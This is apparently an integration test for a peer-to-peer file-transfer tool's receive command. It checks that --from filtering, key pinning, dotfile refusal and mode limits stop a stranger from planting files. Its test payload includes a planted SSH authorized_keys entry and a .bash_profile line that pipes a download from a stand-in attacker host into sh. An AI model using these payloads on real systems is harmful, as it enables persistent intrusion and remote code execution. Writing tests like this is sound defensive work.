#!/bin/bash
# What a stranger may make `receive` do. A stranger is a peer with its own identity that knows
# the receiver's id, using the real `tcpunch send`.
#  - receive without --from or --from-anyone is a usage error naming both (it used to take
#    files from anyone: a stranger planted .ssh/authorized_keys);
#  - receive --from alice refuses mallory at the punch order, before anything is dialled:
#    nothing is written, mallory's send fails (it times out), her key is not recorded in
#    known_peers (it used to be, after a handshake that only served to refuse her), and the
#    receiver goes on waiting for alice, whose files it then takes;
#  - --from alice=KEY pins alice's key: another key is refused in the handshake (nothing
#    written, the wrong key never recorded);
#  - --from-anyone still refuses hidden names (exit 10, a message per file) unless --dotfiles;
#  - a sender's modes never make files or directories group/world-writable, setuid or more
#    than the umask allows.
source "$(dirname "$0")/../integration/lib.sh" "$@"

start_server
SRV=127.0.0.1:$SERVER_PORT
B=$(uid bob)
A=$(uid alice)
M=$(uid mallory)
HAVE_FROM=
"$TCPUNCH_BIN" --help | grep -q -- '--from-anyone' && HAVE_FROM=1

# the stranger's payload: a dotfile tree and a visible file
mkdir -p "$WORK/evil/.ssh" "$WORK/ok"
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVJTCBLRVkgb2YgbWFsbG9yeQ mallory" \
    >"$WORK/evil/.ssh/authorized_keys"
echo 'curl http://evil.example/x | sh' >"$WORK/evil/.bash_profile"
echo 'hello from alice' >"$WORK/ok/letter.txt"

# start_receive DIR FLAGS...: a receive in the background; its pid in RPID, logs r.err
start_receive() {
    local dir=$1 mark
    shift
    mkdir -p "$dir"
    mark=$(log_mark)
    spawn 60 "$TCPUNCH" -s "$SRV" -i "$B" --dir "$dir" "$@" receive >"$WORK/r.out" \
        2>"$WORK/r.err"
    RPID=$!
    wait_until 10 bash -c "! kill -0 $RPID 2>/dev/null || { tail -c +$((mark + 1)) '$SERVER_LOG' | grep -qF -- '$B'; }"
}

# send_as ID FILES...: RC_S, s.err
send_as() {
    local id=$1
    shift
    timeout -k 2 30 "$TCPUNCH" -s "$SRV" -i "$id" -t 5 send "$B" "$@" >"$WORK/s.out" \
        2>"$WORK/s.err"
    RC_S=$?
}

finish_receive() {
    local t
    for t in $(seq 1 100); do
        kill -0 "$RPID" 2>/dev/null || break
        sleep 0.1
    done
    kill "$RPID" 2>/dev/null
    wait "$RPID"
    RC_R=$?
}

empty_dir() {
    [ -z "$(find "$1" -mindepth 1 -print -quit)" ]
}

# 1. neither --from nor --from-anyone
D1=$WORK/d1
start_receive "$D1"
if kill -0 "$RPID" 2>/dev/null; then
    # it waits for anyone: the stranger tries
    send_as "$M" "$WORK/evil/.ssh" "$WORK/evil/.bash_profile"
fi
finish_receive
check_rc "receive without --from or --from-anyone" 1 "$RC_R"
check "the usage error names --from and --from-anyone" \
    bash -c "grep -qF -- '--from ID' '$WORK/r.err' && grep -qF -- '--from-anyone' '$WORK/r.err'"
check "the stranger planted nothing (no .ssh/authorized_keys, no .bash_profile)" \
    test ! -e "$D1/.ssh/authorized_keys" -a ! -e "$D1/.bash_profile"

# 2. --from alice: mallory is refused before any byte is written; alice then gets through
D2=$WORK/d2
start_receive "$D2" --from "$A"
mark=$(log_mark)
rm -f "$WORK/home/$B/known_peers"
send_as "$M" "$WORK/ok/letter.txt" "$WORK/evil/.bash_profile"
check "mallory's send to a receive --from alice fails (exit $RC_S)" test "$RC_S" -ne 0
check "nothing was written for mallory" empty_dir "$D2"
check "the receiver refused mallory at the punch order" \
    grep -q "refusing a session with $M: not a sender named by --from" "$WORK/r.err"
check "mallory's key was not recorded in known_peers" \
    bash -c "! grep -qs '^$M ' '$WORK/home/$B/known_peers'"
check "the receiver is still waiting" kill -0 "$RPID"
send_as "$A" "$WORK/ok/letter.txt"
check_rc "alice's send after mallory's refusal" 0 "$RC_S"
finish_receive
check_rc "the receive ends with alice's transfer" 0 "$RC_R"
same_file "alice's file arrived" "$WORK/ok/letter.txt" "$D2/letter.txt"

# 3. --from alice=KEY with a key that is not alice's: her handshake is refused, nothing written,
# and her (unpinned) key is not recorded as alice's
D3=$WORK/d3
MKEY=$(TCPUNCH_HOME=$WORK/home/$M "$TCPUNCH_BIN" id 2>/dev/null | awk '/^key:/ { print $2 }')
[ -n "$MKEY" ] || MKEY=$(TCPUNCH_HOME=$WORK/home/$M "$TCPUNCH_BIN" id 2>/dev/null | head -n 1)
rm -f "$WORK/home/$B/known_peers"
start_receive "$D3" --from "$A=$MKEY"
send_as "$A" "$WORK/ok/letter.txt"
check "a send under another key than the pinned one fails (exit $RC_S)" test "$RC_S" -ne 0
check "nothing was written for the wrong key" empty_dir "$D3"
check "the wrong key was not recorded for alice" \
    bash -c "! grep -qs '^$A ' '$WORK/home/$B/known_peers'"
finish_receive
AKEY=$(TCPUNCH_HOME=$WORK/home/$A "$TCPUNCH_BIN" id 2>/dev/null | awk '/^key:/ { print $2 }')
start_receive "$D3" --from "$A=$AKEY"
send_as "$A" "$WORK/ok/letter.txt"
check_rc "a send under the pinned key" 0 "$RC_S"
finish_receive
check_rc "receive --from alice=HER-KEY" 0 "$RC_R"

# 4. --from-anyone: hidden names are refused without --dotfiles, one message per file
D4=$WORK/d4
start_receive "$D4" ${HAVE_FROM:+--from-anyone}
send_as "$M" "$WORK/evil/.ssh" "$WORK/evil/.bash_profile" "$WORK/ok/letter.txt"
check_rc "mallory's dotfiles to --from-anyone: the sender" 10 "$RC_S"
finish_receive
check_rc "mallory's dotfiles to --from-anyone: the receiver" 10 "$RC_R"
check "no .ssh/authorized_keys planted" test ! -e "$D4/.ssh"
check "no .bash_profile planted" test ! -e "$D4/.bash_profile"
same_file "the visible file was taken" "$WORK/ok/letter.txt" "$D4/letter.txt"
check "the receiver names each refused hidden file" \
    bash -c "grep -q 'refused .ssh/authorized_keys from $M: a hidden name' '$WORK/r.err' &&
             grep -q 'refused .bash_profile from $M: a hidden name' '$WORK/r.err'"
check "the sender is told --dotfiles" grep -q "refused .bash_profile: .*--dotfiles" "$WORK/s.err"
# ... and taken with --dotfiles
D5=$WORK/d5
start_receive "$D5" ${HAVE_FROM:+--from "$M" --dotfiles}
send_as "$M" "$WORK/evil/.bash_profile"
check_rc "a dotfile with --dotfiles" 0 "$RC_S"
finish_receive
same_file ".bash_profile taken with --dotfiles" "$WORK/evil/.bash_profile" "$D5/.bash_profile"

# 5. modes: the sender asks for 0777 directories and setuid/0777 files
mkdir -p "$WORK/modes/tree/sub"
echo x >"$WORK/modes/tree/sub/f"
chmod 0777 "$WORK/modes/tree" "$WORK/modes/tree/sub" "$WORK/modes/tree/sub/f"
for mask in 000 077; do
    D=$WORK/m$mask
    mkdir -p "$D"
    mark=$(log_mark)
    (umask $mask && exec timeout -k 2 60 "$TCPUNCH" -s "$SRV" -i "$B" --dir "$D" \
        ${HAVE_FROM:+--from "$A"} receive >"$WORK/r.out" 2>"$WORK/r.err") &
    RPID=$!
    BG_PIDS+=($RPID)
    wait_registered "$B" "$mark"
    send_as "$A" "$WORK/modes/tree"
    finish_receive
    check_rc "umask $mask: the transfer" 0 "$RC_R"
    want_dir=$(printf '%o' $((0755 & ~0$mask)))
    check "umask $mask: a new directory is $want_dir, not $(stat -c %a "$D/tree" 2>/dev/null)" \
        test "$(stat -c %a "$D/tree" 2>/dev/null)" = "$want_dir"
    check "umask $mask: a nested new directory is $want_dir" \
        test "$(stat -c %a "$D/tree/sub" 2>/dev/null)" = "$want_dir"
    check "umask $mask: a 0777 file is $want_dir, not $(stat -c %a "$D/tree/sub/f" 2>/dev/null)" \
        test "$(stat -c %a "$D/tree/sub/f" 2>/dev/null)" = "$want_dir"
done
finish
